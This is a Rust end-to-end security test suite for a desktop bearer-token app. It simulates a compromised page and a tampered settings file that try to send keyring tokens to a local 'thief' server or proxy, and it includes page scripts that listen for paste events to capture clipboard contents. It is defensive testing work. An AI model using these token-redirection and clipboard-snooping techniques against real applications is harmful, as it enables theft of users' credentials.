//! A compromised page and a changed settings file try to have bearer tokens sent elsewhere. Each attempt is also let through once, to show
//! that it would be seen.

use std::{ffi::OsStr, fs, process::Command};

use calyptia_test_support::{
    forward_proxy::ForwardProxy,
    raw::{Answer, Server},
};
use serde_json::{Value, json};

use crate::{
    native::{Dialog, ENTER, ESCAPE, SPACE, TAB, allow},
    place::{DESKTOP, Place, step},
    second_start::front_window,
    window::{Theme, Window, within},
};

const BEARER: &str = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJjYW5hcnkifQ.canary-of-the-keyring";
const SERVER: &str = "https://api.acme.test";
const PROJECTS: &str = r#"[{"id":"7d9f1c52-3f0e-4c5e-9a55-0f6d5a1c0b77","name":"Elsewhere"}]"#;

/// Begins a call of a command as a script in the page can. Its outcome is in `window.outcome`.
async fn begin(window: &Window, command: &str, arguments: Value) {
    const BEGIN: &str = "window.outcome = null;
        window.__TAURI__.core.invoke(arguments[0], arguments[1]).then(
            (done) => { window.outcome = { done }; }, ({ code }) => { window.outcome = { code }; });";
    within("a call", window.page.execute(BEGIN, vec![json!(command), arguments])).await.unwrap();
}

async fn outcome(window: &Window) -> Value {
    within("the outcome", async {
        loop {
            let outcome = window.page.execute("return window.outcome;", vec![]).await.unwrap();
            if !outcome.is_null() {
                return outcome;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    })
    .await
}

/// The settings of a connection that is signed in, and of a network.
fn settings(place: &Place, server: &str, entry: &str, current: bool, proxy: Value) {
    let id = "00000000-0000-4000-8000-000000000007";
    let folder = place.folder.join("config/io.github.calyptia-tokens");
    fs::create_dir_all(&folder).unwrap();
    let settings = json!({
        "version": 2,
        "connections": [{
            "id": id, "name": "Acme", "server": server, "entry": entry, "credential": "keyring", "in_keyring": true,
        }],
        "current": current.then_some(id),
        "network": { "proxy": proxy, "certificates": null },
    });
    fs::write(folder.join("settings.json"), settings.to_string()).unwrap();
}

fn keep_in_keyring(account: &str) {
    let script = format!(
        "printf %s '{BEARER}' | timeout 10 secret-tool store --label=x service calyptia-tokens username '{account}' target default"
    );
    assert!(Command::new("sh").args(["-c", &script]).status().unwrap().success());
}

fn clear_keyring(account: &str) {
    let _ = Command::new("timeout")
        .args(["10", "secret-tool", "clear", "service", "calyptia-tokens", "username", account])
        .status();
}

/// Waits until the proxy has been asked for the server once more.
async fn passes_through(proxy: &ForwardProxy, before: usize) {
    within("the proxy", async {
        while proxy.heads().len() <= before {
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    })
    .await;
    assert!(proxy.heads()[before].starts_with("CONNECT api.acme.test:443"), "{:?}", proxy.heads());
}

async fn elsewhere() -> Server {
    Server::start(|_| Answer::json(PROJECTS)).await
}

#[tokio::test]
#[ignore = "needs a display, a session bus and a keyring of its own: script/desktop"]
async fn p7_the_page_does_not_decide_where_bearer_tokens_go() {
    let _desktop = DESKTOP.lock().await;
    let place = Place::new();
    let thief = elsewhere().await;
    let proxy = ForwardProxy::start_open(thief.port).await;
    settings(&place, SERVER, SERVER, false, json!({ "kind": "system" }));
    keep_in_keyring(SERVER);
    let spanish = [("CALYPTIA_LANGUAGE", OsStr::new("es"))];
    let window = place.open_with(Theme::Light, "consent.log", SERVER, &spanish).await;
    window.find("button", "Conectar").await;
    let proxied = json!({
        "proxy": { "kind": "address", "url": format!("http://{}", proxy.name()) },
        "certificates": { "kind": "keep" },
    });
    let restore = json!({ "connection": "00000000-0000-4000-8000-000000000007" });

    step("a proxy of its own, refused with Esc: the bearer token of the keyring does not go there");
    begin(&window, "set_network", proxied.clone()).await;
    let dialog = Dialog::open().await;
    window.screenshot("consent-proxy-spanish").await;
    dialog.press(&[ESCAPE]).await;
    assert_eq!(outcome(&window).await, json!({ "code": "not_allowed" }));
    begin(&window, "restore", restore.clone()).await;
    assert_eq!(outcome(&window).await, json!({ "code": "server_not_found" }));
    assert_eq!(proxy.heads(), Vec::<String>::new());

    step("whoever is typing when the question opens has not agreed to it");
    begin(&window, "set_network", proxied.clone()).await;
    Dialog::open().await.press(&[TAB, SPACE]).await;
    assert_eq!(outcome(&window).await, json!({ "code": "not_allowed" }));
    Dialog::gone().await;

    step("certificates of its own: only a person can choose a file");
    begin(&window, "choose_certificates", json!({})).await;
    Dialog::open().await.press(&[ESCAPE]).await;
    assert_eq!(outcome(&window).await, json!({ "done": null }));

    step("the clipboard, sent to a server of its own: refused with Enter, and by closing the dialog");
    let connect =
        json!({ "connection": null, "server": thief.url(), "bearerToken": null, "sessionOnly": true });
    let mut clipboard = arboard::Clipboard::new().unwrap();
    clipboard.set_text(BEARER).unwrap();
    begin(&window, "paste_bearer_token", json!({ "server": thief.url(), "source": "clipboard" })).await;
    assert!(outcome(&window).await["done"].is_object());
    begin(&window, "connect", connect.clone()).await;
    Dialog::open().await.press(&[ENTER]).await;
    assert_eq!(outcome(&window).await, json!({ "code": "not_allowed" }));
    begin(&window, "connect", connect.clone()).await;
    Dialog::open().await.close();
    assert_eq!(outcome(&window).await, json!({ "code": "not_allowed" }));
    Dialog::gone().await;
    assert_eq!(thief.seen().connections, 0);

    step("a question goes with what it was asked for");
    begin(&window, "connect", connect.clone()).await;
    Dialog::open().await;
    let cancel = "window.__TAURI__.core.invoke('cancel_connect');";
    within("cancelling", window.page.execute(cancel, vec![])).await.unwrap();
    assert_eq!(outcome(&window).await, json!({ "code": "cancelled" }));
    Dialog::gone().await;
    assert_eq!(thief.seen().connections, 0);

    step("the control: agreed to, the server gets the bearer token");
    begin(&window, "connect", connect).await;
    allow().await;
    let connected = outcome(&window).await;
    assert_eq!(connected["done"]["projects"][0]["name"], "Elsewhere");
    let stolen = format!("Bearer {BEARER}");
    assert_eq!(thief.seen().requests[0].header("authorization"), Some(stolen.as_str()));

    step("what is on the clipboard: no command hands it out");
    clipboard.set_text("somebody's password").unwrap();
    let filter = json!({ "connection": connected["done"]["id"], "source": "clipboard" });
    begin(&window, "paste_into_filter", filter).await;
    assert_eq!(outcome(&window).await, json!({ "done": { "kind": "text" } }));

    step("the control: agreed to, the proxy is used");
    begin(&window, "set_network", proxied).await;
    allow().await;
    assert!(outcome(&window).await["done"].is_object());
    begin(&window, "restore", restore).await;
    passes_through(&proxy, 0).await;
    window.close().await;
    clear_keyring(SERVER);
    clear_keyring("network");
}

#[tokio::test]
#[ignore = "needs a display, a session bus and a keyring of its own: script/desktop"]
async fn p7_a_script_that_listens_for_pastes_gets_no_token() {
    const LISTEN: &str = "window.heard = [];
        addEventListener('paste', (event) => window.heard.push(event.clipboardData?.getData('text/plain') ?? null), true);
        addEventListener('input', (event) => window.heard.push(event.target.value), true);";
    const HEARD: &str = "return window.heard;";
    let _desktop = DESKTOP.lock().await;
    let place = Place::new();
    let window = place.open(Theme::Light, "paste.log", SERVER).await;
    within("listening", window.page.execute(LISTEN, vec![])).await.unwrap();
    let mut clipboard = arboard::Clipboard::new().unwrap();

    step("the control: other text goes to the page");
    window.click("input", "Server address").await;
    let keys = Dialog::of(front_window().expect("the window").0);
    clipboard.set_text("/path").unwrap();
    keys.press_paste().await;
    within("the paste", async {
        while window.page.execute(HEARD, vec![]).await.unwrap() == json!([]) {
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    })
    .await;
    assert_eq!(window.page.execute(HEARD, vec![]).await.unwrap()[0], "/path");
    window.type_into("Server address", SERVER).await;

    step("a bearer token goes to Rust, where the field is for it");
    within("listening", window.page.execute("window.heard = [];", vec![])).await.unwrap();
    clipboard.set_text(format!("Bearer {BEARER}")).unwrap();
    window.click("input", "Bearer token").await;
    keys.press_paste().await;
    window.wait_for_text("Bearer token pasted").await;
    window.screenshot("pasted").await;

    step("elsewhere it goes nowhere");
    window.click("input", "Server address").await;
    keys.press_paste().await;
    window.wait_for_text("it wasn’t pasted here").await;
    keys.press_paste_as_text().await;
    let heard = window.page.execute(HEARD, vec![]).await.unwrap();
    assert!(!heard.to_string().contains("eyJ"), "{heard}");

    step("the clipboard is cleared when asked");
    window.press_button("Clear clipboard").await;
    window.wait_for_text("Clipboard cleared").await;
    assert_ne!(clipboard.get_text().unwrap_or_default(), format!("Bearer {BEARER}"));
    window.close().await;
}

/// Clicks with the middle button into this field.
async fn middle_click(window: &Window, keys: &Dialog, label: &str) {
    let place = window.find("input", label).await.rectangle().await.expect("a place");
    let middle = |start: f64, size: f64| (start + size / 2.0) as i16;
    keys.middle_click_at(middle(place.0, place.2), middle(place.1, place.3)).await;
}

#[tokio::test]
#[ignore = "needs a display, a session bus and a keyring of its own: script/desktop"]
async fn c47_a_script_that_listens_for_middle_clicks_gets_no_token() {
    use arboard::{GetExtLinux as _, LinuxClipboardKind::Primary, SetExtLinux as _};

    const LISTEN: &str = "window.heard = [];
        addEventListener('paste', (event) => window.heard.push(event.clipboardData?.getData('text/plain') ?? null), true);
        addEventListener('input', (event) => window.heard.push(event.target.value), true);";
    const HEARD: &str = "return window.heard;";
    let _desktop = DESKTOP.lock().await;
    let place = Place::new();
    let window = place.open(Theme::Light, "middle-click.log", SERVER).await;
    within("listening", window.page.execute(LISTEN, vec![])).await.unwrap();
    let mut clipboard = arboard::Clipboard::new().unwrap();
    let keys = Dialog::of(front_window().expect("the window").0);
    clipboard.set_text("what was copied").unwrap();

    step("the control: other text goes to the page");
    clipboard.set().clipboard(Primary).text("/selected").unwrap();
    middle_click(&window, &keys, "Server address").await;
    within("the paste", async {
        while !window.page.execute(HEARD, vec![]).await.unwrap().to_string().contains("/selected") {
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    })
    .await;
    window.type_into("Server address", SERVER).await;

    step("a bearer token goes to Rust, and nothing of it to the page");
    within("listening", window.page.execute("window.heard = [];", vec![])).await.unwrap();
    clipboard.set().clipboard(Primary).text(format!("Bearer {BEARER}")).unwrap();
    middle_click(&window, &keys, "Bearer token").await;
    window.wait_for_text("Bearer token pasted").await;
    window.screenshot("middle-click").await;
    let source = window.page.source().await.unwrap();
    assert!(!source.contains("Clear clipboard"), "nothing was taken from there");

    step("elsewhere it goes nowhere");
    middle_click(&window, &keys, "Server address").await;
    window.wait_for_text("it wasn’t pasted here").await;
    let heard = window.page.execute(HEARD, vec![]).await.unwrap();
    assert!(!heard.to_string().contains("eyJ"), "{heard}");
    assert_eq!(clipboard.get_text().unwrap(), "what was copied");
    assert!(clipboard.get().clipboard(Primary).text().unwrap().contains(BEARER));

    step("other buttons work as before");
    window.press_button("Remove the pasted bearer token").await;
    window.close().await;
}

#[tokio::test]
#[ignore = "needs a display, a session bus and a keyring of its own: script/desktop"]
async fn p7_the_settings_file_does_not_decide_where_bearer_tokens_go() {
    let _desktop = DESKTOP.lock().await;
    let place = Place::new();
    let thief = elsewhere().await;
    let proxy = ForwardProxy::start_open(thief.port).await;
    keep_in_keyring(SERVER);

    step("another server for the entry: it is not sent there, and the reason is told");
    settings(&place, &thief.url(), SERVER, true, json!({ "kind": "system" }));
    let window = place.open(Theme::Dark, "server.log", SERVER).await;
    window.wait_for_text("belongs to another server").await;
    window.screenshot("entry-of-another-server").await;
    assert_eq!(thief.seen().connections, 0);
    window.close().await;

    step("another proxy: asked about at the start, and refused");
    let proxied = json!({ "kind": "address", "url": format!("http://{}", proxy.name()) });
    settings(&place, SERVER, SERVER, true, proxied);
    let window = place.open(Theme::Dark, "proxy.log", SERVER).await;
    let dialog = Dialog::open().await;
    window.screenshot("consent-proxy").await;
    assert_eq!(proxy.heads(), Vec::<String>::new(), "nothing before the answer");
    dialog.press(&[ENTER]).await;
    window.wait_for_text("You didn’t allow this").await;
    window.screenshot("consent-refused").await;
    assert_eq!(proxy.heads(), Vec::<String>::new());

    step("the control: agreed to, it goes that way, and is not asked about again");
    window.click("button", "Try again").await;
    allow().await;
    passes_through(&proxy, 0).await;
    window.close().await;
    let before = proxy.heads().len();
    let window = place.open(Theme::Dark, "again.log", SERVER).await;
    passes_through(&proxy, before).await;
    assert!(Dialog::find().is_none());
    window.close().await;
    clear_keyring(SERVER);
    clear_keyring("network");
}
